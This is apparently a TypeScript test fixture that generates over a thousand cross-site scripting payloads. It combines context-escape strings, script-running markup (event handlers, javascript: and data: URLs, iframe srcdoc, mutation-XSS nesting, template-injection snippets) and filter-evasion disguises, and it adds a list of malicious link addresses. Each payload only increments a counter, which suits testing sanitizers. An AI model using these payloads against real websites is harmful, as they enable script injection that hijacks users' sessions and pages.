/** What a payload does when it gets to run: this page counts it. */
const RUN = 'globalThis.pwned=(globalThis.pwned||0)+1'

/** Ways out of where a text may have been put. */
const EXITS = ['', '">', "'>", '</style>', '</textarea>', '</title>', '-->', ']]>', '</script>', '`}', '${x}', '<!--?lit$1$-->']

/** Markup that runs a script, each by another way. */
const MARKUP = [
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<script>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><mtext></p><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<style>@import "javascript:${RUN}"</style>`,
  `x" onmouseover=${RUN} y="`,
  `x' onfocus=${RUN} autofocus y='`,
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
]

/** Disguises that filters have missed. */
const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (_, tag: string) => `<${tag.toUpperCase()}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replace('javascript:', 'java\tscript:').replace(/(<\w+) /g, '$1/'),
  (text) => `\u202E\uFEFF${text}`,
]

/** Over a thousand texts that would run a script if any of them were taken for markup, a template or an address. */
export const payloads: readonly string[] = DISGUISES.flatMap((disguise) =>
  EXITS.flatMap((exit) => MARKUP.map((markup) => exit + disguise(markup))),
)

/** Addresses that run a script where a link or a picture takes them. */
export const addresses: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript://x/%0a${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `data:text/javascript,${RUN}`,
  `vbscript:${RUN}`,
  `x" onerror="${RUN}`,
]
